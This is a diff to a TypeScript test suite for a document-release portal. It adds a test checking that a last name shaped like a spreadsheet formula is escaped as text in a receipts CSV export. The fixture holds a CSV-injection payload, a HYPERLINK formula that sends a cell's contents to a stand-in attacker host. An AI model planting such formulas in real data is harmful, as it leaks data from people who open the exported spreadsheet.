@@ -270,6 +270,23 @@ describe('proof of receipt (F-81) and the access log (rule 7)', () => {
     expect(entries[3].documentIds).toEqual(expect.arrayContaining([seeded.newStatement.id, seeded.welcome.id]))
     for (const entry of entries) expect(entry.portalUserId).toBeTypeOf('number')
   })
+
+  it('writes a name that looks like a formula as text into the CSV (CSV injection)', async () => {
+    const person = await payload.create({
+      collection: 'persons',
+      data: { kind: 'natural', firstName: 'Eva', lastName: '=HYPERLINK("http://evil.example/?"&A1,"klick")' },
+    })
+    await payload.create({
+      collection: 'document-releases',
+      data: { document: seeded.houseRules.id, person: person.id },
+    })
+    const csv = await request('GET', `/documents/${seeded.houseRules.id}/receipts?format=csv`, {
+      token: await staffToken('clerk'),
+    })
+    expect(csv.status).toBe(200)
+    const line = (await csv.text()).split('\r\n').find((row) => row.includes('HYPERLINK'))
+    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""klick""), Eva";`)).toBe(true)
+  })
 })
 
 describe('clerk: "see as" a person (F-23)', () => {
